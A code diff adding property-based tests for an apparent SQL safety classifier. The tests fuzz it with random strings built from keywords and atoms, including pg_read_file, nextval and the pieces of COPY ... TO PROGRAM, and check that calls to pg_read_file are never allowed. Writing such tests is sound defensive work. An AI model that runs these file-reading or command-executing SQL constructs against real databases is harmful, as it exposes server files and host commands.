+@settings(max_examples=500, deadline=None)
+@given(st.text())
+def test_arbitrary_text_classifies_or_is_unparsable(text: str) -> None:
+    """No input makes classify fail with anything but UnparsableStatement."""
+    try:
+        result = run(text)
+    except UnparsableStatement:
+        return
+    assert isinstance(result, Classification)
+
+
+_KEYWORDS = ["select", "insert", "into", "update", "delete", "from", "where", "with", "as", "values", "set"]
+_MORE_KEYWORDS = ["returning", "union", "for", "explain", "analyze", "begin", "commit", "copy", "to", "stdout"]
+_EVEN_MORE = ["program", "create", "table", "drop", "grant", "role", "do", "lateral", "join", "on"]
+_ATOMS = [
+    "t",
+    "u",
+    "x",
+    "(",
+    ")",
+    ",",
+    ";",
+    "*",
+    "=",
+    "1",
+    "'a'",
+    "$$x$$",
+    "nextval('s')",
+    "lower(x)",
+    "pg_read_file('f')",
+]
+SQL_WORDS = _KEYWORDS + _MORE_KEYWORDS + _EVEN_MORE + _ATOMS
+
+
+@settings(max_examples=500, deadline=None)
+@given(st.lists(st.sampled_from(SQL_WORDS), max_size=14).map(" ".join))
+def test_sql_like_text_never_allows_unsafe_calls(text: str) -> None:
+    """Whatever parses, a request calling pg_read_file or nextval is never ALLOWED."""
+    try:
+        result = run(text)
+    except UnparsableStatement:
+        return
+    assert isinstance(result, Classification)
+    if result.verdict is ALLOWED:
+        assert "pg_read_file" not in result.functions
+        assert "nextval" not in result.functions or result.statement_types == ("EXPLAIN",)
+        assert len(result.statement_types) == 1
